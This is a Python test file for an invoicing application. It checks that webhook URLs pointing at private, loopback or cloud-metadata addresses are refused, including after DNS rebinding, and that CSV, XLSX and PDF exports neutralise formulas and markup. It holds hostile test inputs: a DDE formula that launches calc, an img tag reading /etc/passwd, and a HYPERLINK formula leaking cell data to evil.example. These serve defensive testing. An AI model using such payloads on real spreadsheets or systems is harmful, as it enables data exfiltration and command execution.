"""Rows 4, 5, 6 and 11 of issue 11: webhook targets must be public addresses (at registration and at
send time); text in PDFs is never markup; spreadsheet cells never formulas; webhook secrets are kept
encrypted and the delivery id is signed."""

from __future__ import annotations

import io

import pytest
from sqlalchemy import select

from arguard.core.errors import ValidationError
from arguard.core.exports import spreadsheet_cell
from arguard.monitor import delivery
from arguard.monitor.tables import Webhook
from arguard.platform.outbound import check_public_url
from arguard.settings import get_settings
from tests.conftest import auth

HOSTILE_NAME = '<img src="/etc/passwd" width="50" height="50"/> =cmd|\' /C calc\'!A0'
HOSTILE_NUMBER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("url", ["http://127.0.0.1:8000/x", "http://localhost/x", "http://169.254.169.254/latest",
                                 "http://10.0.0.5/hook", "http://[::1]/x", "http://0.0.0.0/x",
                                 "http://[::ffff:127.0.0.1]/x", "http://192.168.1.1/x"])
def test_private_loopback_and_link_local_targets_are_refused(url):
    with pytest.raises(ValidationError) as caught:
        check_public_url(url, at_registration=True)
    assert caught.value.code == "webhook_private_target"


def test_public_target_and_operator_override(monkeypatch):
    check_public_url("https://93.184.215.14/hook")
    monkeypatch.setattr(get_settings(), "webhook_allow_private", True)
    check_public_url("http://127.0.0.1:9/hook")


def test_registration_through_the_api_refuses_the_metadata_address(api):
    client, key_for = api
    r = client.post("/api/v1/webhooks", headers=auth(key_for("admin")), json={
        "url": "http://169.254.169.254/latest/meta-data", "secret": "0123456789abcdef-secret"})
    assert r.status_code == 422 and r.json()["error"] == "webhook_private_target"


def test_send_time_check_refuses_a_name_that_now_resolves_to_loopback(ctx_factory, engine, monkeypatch):
    """DNS may change after registration: the sender checks again and logs the refusal, sending nothing."""
    import socket

    from arguard.monitor.tables import Delivery, DeliveryAttempt
    from tests.monitor.helpers import load

    real = socket.getaddrinfo
    answers = {"hooks.partner.example": "93.184.215.14"}

    def fake(host, *args, **kwargs):  # type: ignore[no-untyped-def]
        if host in answers:
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[host], 80))]
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", fake)
    with ctx_factory() as ctx:
        delivery.add_webhook(ctx, "http://hooks.partner.example/arguard", "s" * 32, ["*"])
        load(ctx, "customer ACME DE\nevent legal.action ACME 2026-05-02 description=suit")
    answers["hooks.partner.example"] = "127.0.0.1"  # rebinding
    delivery.deliver_due(engine, delivery.RetryPolicy(base_s=0, max_attempts=1, lease_s=5))
    with ctx_factory() as ctx:
        attempts = list(ctx.session.scalars(select(DeliveryAttempt).where(
            DeliveryAttempt.company_id == ctx.company_id)))
        rows = list(ctx.session.scalars(select(Delivery).where(Delivery.company_id == ctx.company_id)))
    assert attempts and all("private" in (a.error or "") and a.status_code is None for a in attempts)
    assert all(r.status == "failed" for r in rows)


def test_webhook_secret_is_encrypted_at_rest_and_the_delivery_id_signed(ctx_factory, monkeypatch):
    monkeypatch.setattr(get_settings(), "webhook_allow_private", True)
    secret = "whsec-plaintext-marker-0042"
    with ctx_factory() as ctx:
        hook = delivery.add_webhook(ctx, "http://127.0.0.1:9/hook", secret, ["*"])
        stored = ctx.session.scalar(select(Webhook.secret).where(Webhook.id == hook.id))
    assert secret not in stored and stored.startswith(delivery.SEALED)
    assert delivery.open_secret(stored) == secret
    body, ts = b'{"x":1}', "1700000000"
    sig = delivery.signature(secret, ts, body, "41")
    assert delivery.verify_signature(secret, ts, body, sig, now=1700000001, delivery_id="41")
    assert not delivery.verify_signature(secret, ts, body, sig, now=1700000001, delivery_id="42")


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(1)", "\t=1", "\r=1", HOSTILE_NUMBER])
def test_formula_text_is_defused(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-700.00", "1,234.50", "ACME GmbH", "", "INV-1001"])
def test_plain_text_and_numbers_are_kept(text):
    assert spreadsheet_cell(text) == text


def _hostile_ledger(client, key) -> None:  # type: ignore[no-untyped-def]
    r = client.post("/api/v1/customers", headers=auth(key), json={
        "customer_id": "EVIL", "name": HOSTILE_NAME, "country": "DE", "currency": "EUR"})
    assert r.status_code == 200, r.text
    r = client.post("/api/v1/invoices", headers=auth(key), json={
        "invoice_number": HOSTILE_NUMBER, "customer_id": "EVIL", "issue_date": "2026-01-01",
        "due_date": "2026-01-31", "amount": "100.00", "currency": "EUR"})
    assert r.status_code == 200, r.text


def test_statement_exports_defuse_formulas_and_markup(api):
    from openpyxl import load_workbook

    client, key_for = api
    key = key_for("analyst")
    _hostile_ledger(client, key)
    url = "/api/v1/customers/EVIL/statement?as_of=2026-03-01&format="
    csv_text = client.get(url + "csv", headers=auth(key)).text
    assert "=HYPERLINK" in csv_text and ',"=HYPERLINK' not in csv_text and "'=HYPERLINK" in csv_text
    book = load_workbook(io.BytesIO(client.get(url + "xlsx", headers=auth(key)).content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"], "no cell may be a formula"
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    pdf = client.get(url + "pdf", headers=auth(key))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert b"/Subtype /Image" not in pdf.content  # the <img> was printed as text, not embedded


def test_cli_csv_output_and_insurance_declarations_defuse_formulas(capsys):
    from arguard.cli.common import emit
    from arguard.insurance.render import render_declaration

    emit([{"customer": HOSTILE_NUMBER, "amount": "-700.00"}], "csv")
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out and ",-700.00" in out
    decl = {"id": 1, "kind": "turnover", "policy_number": '<img src="/etc/hostname"/>', "period_start": "2026-01-01",
            "period_end": "2026-03-31", "amount": "100.00", "currency": "EUR", "premium": "1.00",
            "content": {"buyers": [{"customer": HOSTILE_NUMBER, "turnover": "100.00"}]}}
    assert "'=HYPERLINK" in render_declaration(decl, "csv").decode()
    pdf = render_declaration(decl, "pdf")
    assert pdf.startswith(b"%PDF") and b"/Subtype /Image" not in pdf
